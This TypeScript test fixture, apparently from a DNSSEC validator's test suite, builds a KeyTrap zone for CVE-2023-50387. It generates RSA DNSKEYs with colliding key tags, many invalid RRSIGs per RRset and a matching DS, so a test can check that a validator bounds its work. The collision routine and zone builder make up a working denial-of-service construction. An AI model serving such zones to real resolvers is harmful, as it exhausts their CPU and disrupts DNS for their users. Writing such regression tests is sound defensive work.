/**
 * A KeyTrap zone (CVE-2023-50387) built with our signer's keys: many DNSKEYs sharing one key tag and algorithm
 * (RSA keys whose modulus is altered so that the tag collides: each is a well-formed key, so every attempt is a real
 * public-key operation), and for every RRset many RRSIGs naming that tag, none valid. The parent's DS matches the
 * first key in canonical order, so a validator gets past the DS and into the signatures. A validator without limits
 * tries keys x signatures for every RRset; a bounded one fails fast.
 */

import { keyTag } from '../../src/dnssec/algorithms.js';
import { generateSigningKey, makeDs, rrsigLabels, type SigningKey } from '../../src/dnssec/signer.js';
import {
  canonicalRdata,
  compareBytes,
  type DnskeyData,
  type Name,
  type RR,
  RRType,
  type RrsigData,
} from '../../src/wire/index.js';
import { WORLD_NOW } from './signed-world.js';

export interface KeyTrapOptions {
  /** DNSKEYs with the colliding tag (default 64). */
  keys?: number;
  /** Invalid RRSIGs per RRset (default 64). */
  sigs?: number;
  /** Signature validity around this time (default WORLD_NOW). */
  now?: number;
}

let base: SigningKey | undefined;

/** `count` distinct well-formed RSA DNSKEYs (flags 257) that all have key tag `tag`. */
export function collidingKeys(count: number): { keys: DnskeyData[]; tag: number } {
  base ??= generateSigningKey(8, 'csk', { rsaModulusBits: 1024 });
  const template: DnskeyData = { flags: 257, protocol: 3, algorithm: 8, publicKey: base.publicKey };
  const tag = keyTag(canonicalRdata(RRType.DNSKEY, template));
  const keys: DnskeyData[] = [];
  const pk = base.publicKey;
  // RDATA offset of publicKey[i] is 4 + i: adjust the 16-bit word at an even RDATA offset near the end (not the last,
  // odd, octet of the modulus) after varying an octet in the middle
  const wordAt = (pk.length - 4) & ~1;
  for (let i = 0; keys.length < count && i < 256; i++) {
    const key = Uint8Array.from(pk);
    key[Math.floor(pk.length / 2)] ^= i + 1;
    key[wordAt] = 0;
    key[wordAt + 1] = 0;
    // RFC 4034 App. B: the tag is the folded 16-bit sum of the RDATA words, so the word that gives `tag` is found
    // from the sum of the others
    const rdata = canonicalRdata(RRType.DNSKEY, { ...template, publicKey: key });
    let sum = 0;
    for (let j = 0; j < rdata.length; j++) sum += j & 1 ? rdata[j] : rdata[j] << 8;
    for (let w = 0; w < 0x10000; w++) {
      const x = sum + w;
      if (((x + ((x >>> 16) & 0xffff)) & 0xffff) !== tag) continue;
      key[wordAt] = w >> 8;
      key[wordAt + 1] = w & 0xff;
      const d: DnskeyData = { ...template, publicKey: key };
      if (keyTag(canonicalRdata(RRType.DNSKEY, d)) === tag) keys.push(d);
      break;
    }
  }
  return { keys, tag };
}

/**
 * Replaces a signed zone's DNSKEY RRset and every RRSIG: `keys` colliding DNSKEYs, and `sigs` garbage RRSIGs with
 * their tag for every RRset. Use as WorldZone.post, with keyTrapDs as WorldZone.ds.
 */
export function keyTrap(opts: KeyTrapOptions = {}): (records: RR[], _keys: SigningKey[], origin: Name) => RR[] {
  const now = opts.now ?? WORLD_NOW;
  return (records, _keys, origin) => {
    const { keys, tag } = collidingKeys(opts.keys ?? 64);
    const dnskeys: RR[] = keys
      .map((data) => ({ name: origin, type: RRType.DNSKEY, class: 1, ttl: 3600, data }) as RR)
      .sort((a, b) => compareBytes(canonicalRdata(RRType.DNSKEY, a.data), canonicalRdata(RRType.DNSKEY, b.data)));
    const kept = records.filter((rr) => rr.type !== RRType.RRSIG && rr.type !== RRType.DNSKEY);
    const sets = new Map<string, RR[]>();
    for (const rr of [...kept, ...dnskeys]) {
      const k = `${rr.name.key}|${rr.type}`;
      sets.set(k, [...(sets.get(k) ?? []), rr]);
    }
    const out: RR[] = [...kept, ...dnskeys];
    for (const set of sets.values()) {
      const first = set[0];
      // a delegation's NS and glue are not signed by the parent
      if (first.type === RRType.NS && !first.name.equals(origin)) continue;
      if ((first.type === RRType.A || first.type === RRType.AAAA) && !first.name.isSubdomainOf(origin)) continue;
      for (let i = 0; i < (opts.sigs ?? 64); i++) {
        const signature = new Uint8Array(128);
        signature.fill(i + 1);
        const data: RrsigData = {
          typeCovered: first.type,
          algorithm: 8,
          labels: rrsigLabels(first.name),
          originalTtl: first.ttl,
          expiration: now + 30 * 86400,
          inception: now - 3600,
          keyTag: tag,
          signerName: origin,
          signature,
        };
        out.push({ name: first.name, type: RRType.RRSIG, class: 1, ttl: first.ttl, data });
      }
    }
    return out;
  };
}

/** The DS of the first DNSKEY (canonical order) of a key-trap zone. */
export function keyTrapDs(records: RR[], origin: Name): RR[] {
  const first = records.find((rr) => rr.type === RRType.DNSKEY && rr.name.equals(origin));
  return first ? [makeDs(origin, first.data as DnskeyData, 2, 3600)] : [];
}
